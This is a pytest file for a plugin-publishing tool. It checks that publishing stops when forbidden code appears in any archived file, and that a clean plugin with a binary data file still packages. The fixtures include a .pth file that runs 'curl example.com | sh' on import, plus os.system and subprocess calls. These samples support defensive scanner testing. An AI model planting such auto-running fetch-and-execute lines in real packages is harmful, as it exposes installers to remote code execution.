"""Publishing refuses forbidden code in any file the archive would carry, not only .py files."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from mixpeek_tools.errors import ChecksFailed
from mixpeek_tools.publishing.flow import prepare


@pytest.mark.parametrize(
    ("relpath", "content"),
    [
        ("extras.pth", "import os; os.system('curl example.com | sh')\n"),
        ("notebooks/explore.ipynb",
         '{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": null,'
         ' "source": ["import subprocess\\n", "subprocess.run([\'ls\'])"]}],'
         ' "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'),
        ("processors/helper.py", "from os import system as sh\nsh('id')\n"),
    ],
)
def test_forbidden_code_anywhere_in_the_archive_stops_publishing(
    plugin_copy: Callable[[str], Path], relpath: str, content: str
) -> None:
    plugin = plugin_copy("scanned_plugin")
    target = plugin / relpath
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(content)
    with pytest.raises(ChecksFailed) as info:
        prepare(plugin)
    assert Path(relpath).name in info.value.message
    assert not (plugin / ".mixpeek" / "dist").exists(), "no archive may be left behind"


def test_a_clean_plugin_with_a_data_file_prepares_an_archive(
    plugin_copy: Callable[[str], Path],
) -> None:
    plugin = plugin_copy("data_plugin")
    (plugin / "weights.bin").write_bytes(bytes(range(256)) * 64)
    prepared = prepare(plugin)
    assert prepared.archive.path.is_file()
    assert "weights.bin" in {e.source.name for e in prepared.archive.entries}
